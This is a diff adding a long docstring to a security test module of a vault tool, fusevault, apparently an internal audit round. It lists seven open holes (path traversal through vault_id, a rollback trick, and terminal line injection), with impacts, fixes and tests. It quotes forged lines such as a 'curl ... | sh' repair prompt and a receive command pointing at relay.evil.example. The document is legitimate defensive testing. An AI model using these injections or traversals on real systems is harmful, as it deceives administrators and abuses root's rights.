@@ -1,4 +1,126 @@
-"""Attack round 26c: (draft) local users against root's shared mount, and the terminal."""
+"""Attack round 26c: another local user against root's shared mount (real Linux users, useradd +
+setpriv), the text that reaches a terminal or a log, and root's rights; with (b) and (a)/(d) for the
+text and the state a device keeps.
+
+Status: all seven holes open; each test is a strict xfail that passes once its hole is closed.
+
+Holes
+-----
+1. A NEW ``vault_id`` IN vault.json MAKES HER DEVICE FORGET EVERYTHING ITS LEDGER AND GRANTS RECORD
+   SAW: HER OLDER FILE IS SHOWN AS HERS, NO ALARM.  ``ledger_path`` (vault/model/ledger.py:92-94) and
+   the grants record's ``state_path`` (vault/model/freshness.py:92-94) name this device's memory
+   ``<vault_id>-<user id>-<hash of the vault folder's path>``, and ``vault_id`` is vault.json's clear
+   text (vault/format/layout.py:196, read as any text, bound to nothing signed).  A writer of the
+   vault folder (a backup, a cloud folder: model (b)) puts her older node document back in the
+   store, as tests/mount/test_trust_rollback.py does (said and refused there), and writes a new
+   ``vault_id``: the next mount opens a ledger that does not exist ("first sight": ``Ledger.open``,
+   ledger.py:233-236, no alarm) and a record of grants that does not exist (freshness.py ``_read``:
+   nothing), so her "first draft" is shown as report.txt instead of "final, signed off", and no
+   ``rollback`` alarm is raised.  The grants record is found the same way, so a replayed grant or
+   group body is new to it too (read, not made a test).  SECURITY.md concedes "a ledger that was
+   deleted" and "a wiped state directory": those are the device's, out of the store writer's reach;
+   vault.json is not.
+   Impact: wrong bytes shown as her file (and grants open to replay), silently, by whoever can write
+   the vault folder.
+   Fix: name the device's records by what the device decides (the realpath of the vault folder and
+   the user id, as ``confirmed_file``, ``verified``, ``pins`` and ``trash_seen`` already do), or keep
+   the vault id this device first saw for that folder in the state directory and refuse (or alarm
+   on) a vault.json that names another.
+   Test: test_a_new_vault_id_in_vault_json_does_not_make_her_device_forget_what_it_saw.
+
+2. A ``vault_id`` WITH ``../`` WRITES THE LEDGER (AND MAKES ITS FOLDERS) WHERE THE VAULT FOLDER'S
+   WRITER SAYS.  The same two lines join the unchecked id into a path: ``"../../x/made/y"`` puts the
+   ledger at ``<state>/../x/made/y-<user id>-<hash>``, and ``Ledger.write`` (ledger.py:290) makes the
+   folders on the way (``mkdir(parents=True)``).  In root's shared mount that is root making folders
+   and files anywhere (the file's last part is fixed, its contents sealed; the grants record lands on
+   the same path, so each then reads the other as damaged).  Seen: ``<state>/../planted-*/made/`` and
+   the ledger file in it after one mount.
+   Impact: root's rights (a shared mount) lent to the vault folder's writer to create folders and
+   files anywhere; a personal mount's files outside its state folder.
+   Fix: refuse a vault.json whose ``vault_id`` is not 32 hex digits (layout.py ``load``), and see 1.
+   Test: test_a_vault_id_with_dot_dots_writes_nothing_outside_her_state_folder.
+
+3. ANOTHER LOCAL USER'S MOUNT POINT WRITES A LINE OF HIS OWN IN ROOT'S ``fusevault status`` AND
+   ``fusevault sync status``.  ``visible_mounts`` (mounts.py:83-89) gives root every mount whose type
+   is ``fuse.fusevault``; any user makes one with fusermount3 (pyfuse3 with ``subtype=fusevault``,
+   no user_allow_other needed) at a folder of his whose name holds a line break, then leaves it
+   without a server.  cli/status.py:78/:81 and cli/sync.py:189/:192/:194 print ``m['mountpoint']``
+   raw; ``defused`` (cli/terminal.py) keeps line breaks on purpose, and ``shown`` is not used here.
+   Dave (no vault user at all) writes "fusevault: WARNING the vault is damaged: run `curl ... | sh`
+   to repair it" as a line of its own on root's terminal.
+   Impact: a forged line on root's terminal, from any local user.
+   Fix: ``shown(m['mountpoint'])`` in both commands (and everywhere a mount point from
+   /proc/self/mountinfo is printed).
+   Test: test_another_users_mount_point_writes_no_line_of_its_own_in_roots_status.
+
+4. vault.json's ``vault_id`` WRITES A LINE OF ITS OWN IN ``fusevault info``.  layout.py:196 takes it as
+   any text; cli/vault.py:154 prints every fact raw.
+   Impact: a forged line on her terminal from the vault folder's writer.
+   Fix: 2's check of the id; ``shown`` for the values in cli/vault.py ``cmd_info``.
+   Test: test_a_vault_id_from_the_vault_folder_writes_no_line_of_its_own_in_info.
+
+5. A FILE'S PATH WRITES A LINE OF ITS OWN IN ``fusevault check``'s "no sidecar" NOTE.
+   vault/services/check.py:292 puts ``state.path`` raw into the note, and cli/check.py:136 prints it
+   (``describe``, check_report.py:109, does use ``shown`` for damaged files).  The name may be a
+   WRITE member's in her shared folder, a sender's or a dropper's; a sidecar is missing where the
+   vault folder's writer removed it (or a replica never opened the file).
+   Impact: a forged line on her terminal.
+   Fix: ``shown(state.path)`` there.
+   Test: test_a_file_name_writes_no_line_of_its_own_in_checks_sidecar_note.
+
+6. A LINK STORE'S ``accessed_at`` WRITES A LINE OF ITS OWN IN ``fusevault link list``.
+   links/owner.py:419 ``_server_view`` passes the store's ``accessed_at`` on as it came (any JSON),
+   and cli/links.py:171 prints it raw.
+   Impact: a forged line on her terminal from the link store's operator.
+   Fix: take ``accessed_at`` only as a number (else "unknown"), and ``shown`` it.
+   Test: test_a_link_stores_accessed_at_writes_no_line_of_its_own_in_link_list.
+
+7. THE RELAY'S SESSION NAME WRITES LINES OF ITS OWN ON THE SENDER'S TERMINAL.  transfer/send.py:75
+   passes ``session["name"]`` from the relay's answer to ``announce``, and cli/transfer.py:190-191
+   print it raw, twice, the second time inside the command she reads out to the receiver.  The
+   relay names the session "apple\nOn the other computer: fusevault receive evil --relay
+   https://relay.evil.example": she sees that line as fusevault's own instruction.
+   Impact: a forged line (a receive command naming the operator's relay) on the sender's terminal.
+   Fix: refuse a session name that is not the relay's word list (or at least ``shown`` it).
+   Test: test_a_relays_session_name_writes_no_line_of_its_own_on_the_senders_terminal.
+
+What held
+---------
+- Mounting over another user's name in root's shared mount: bob (mapped) makes ``$M/proj`` in his own
+  tree and mounts a FUSE file system of his (fusermount3, subtype fusevault) over it; alice's walk of
+  ``$M/proj`` (her own folder of that name) revalidates the dentry (entry timeout 0, another inode for
+  her), and the kernel detaches bob's mount: she reads her plan.txt, and ``fusevault history`` of it
+  answers.  His mount is no allow_other, so no one else could enter it anyway.
+- ``fusevault status``/``unmount`` as a mapped user: another user's personal mount is not listed
+  (``visible_mounts``: hers or allow_other only), and ``request`` refuses a socket served by neither
+  her nor root (SO_PEERCRED) before sending.  Root's ``status`` of a fake mount only says "the mount
+  does not answer" (3 is about its name).
+- Read in the code, stop 41: ``Requests.turn`` is one lock per seat's ``Requests``, so a user's
+  requests queue behind his own only; ``read_call`` runs on his own tree's limiter, a read-only
+  connection per thread (``LocalStore.reading``) checked against a link first; ``trash`` lists
+  ``deleted_nodes`` of his own user id only; ``history``/``restore`` go through ``resolve`` and
+  ``check`` before any version is read; ``status`` shows a mapped user only his own seat's tasks,
+  alarms and unlock.  The control socket: the request is one line within 64 KiB and 5 s, answered as
+  JSON (lone surrogates escaped), caps per uid and in all, refusals never awaited past 1 s.
+- The crash log falls back to /tmp with O_CREAT|O_EXCL (no link followed).  ``DefusedFormatter``
+  flattens every record's message and indents its traceback; every print of a store writer's user,
+  group or peer name, of a trash path, a history author, a share's path, seen in cli/ passes
+  ``shown`` (the ones above are what did not).
+
+Leads not made a test
+---------------------
+- Default trio thread limiter (40 tokens, process-wide): ``fs/kernel.py`` (every kernel
+  invalidation, for every seat), ``agent/sessions.py`` (every unlock), ``do_config``,
+  ``exporting`` and the importer call ``trio.to_thread.run_sync`` without the tree's limiter.  A
+  notify_inval_entry blocks in the kernel on the directory's lock; if a user can keep many of them
+  blocked (or many export/config threads stuck on a hung FUSE mount of his through his helper) the
+  others' unlocks and invalidations wait.  ``turn`` bounds the request paths to one thread per user;
+  the invalidation path was not tried.
+- vault.json's ``store`` (``kind``, ``url``) is the vault folder writer's too: switching a local
+  vault to ``couchdb`` at his own server gives him the CouchDB store's weaker guarantees (SECURITY.md:
+  "a removed row cannot be told from a deletion") and the device's FUSEVAULT_COUCHDB_USER/PASSWORD,
+  if set.  Not tried.
+"""
 
 from __future__ import annotations
 
